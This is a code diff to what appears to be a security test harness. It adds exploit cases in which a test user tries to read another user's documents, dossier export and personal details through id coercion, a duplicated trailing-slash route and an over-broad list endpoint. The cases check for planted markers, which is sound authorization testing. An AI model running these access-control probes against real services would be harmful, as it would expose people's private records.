@@ -511,6 +511,34 @@ const NEW_EXPLOITS = {
     },
   },
 
+  'numeric-id-coercion': pieceRead("another usager's pièce content by its id with a leading zero", (id) => `/api/v2/pieces/0${id}/contenu`),
+
+  'export-registered-twice': {
+    title: "another usager's dossier through the export's trailing-slash registration",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const path = `/api/v2/dossiers/${population.dossierOf('alice')}/export/`;
+      const reply = await attacker.get(path);
+      const findings = new Findings();
+      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
+      return findings.list;
+    },
+  },
+
+  'duplicate-identities': {
+    title: "my dossier list to carry other usagers' names and birth dates",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const reply = await attacker.get('/api/v2/dossiers');
+      if (reply.status !== 200) throw new Error(`positive control: bruno GET /api/v2/dossiers → ${reply.status}`);
+      const findings = new Findings();
+      for (const other of ['alice', 'camille'] as const) findings.leak('bruno GET /api/v2/dossiers', reply, `"nom":"${population.person(other).nom}"`);
+      return findings.list;
+    },
+  },
+
   'access-token-query': {
     title: 'a session id in ?access_token= to open the espace without any cookie',
     async run(target) {
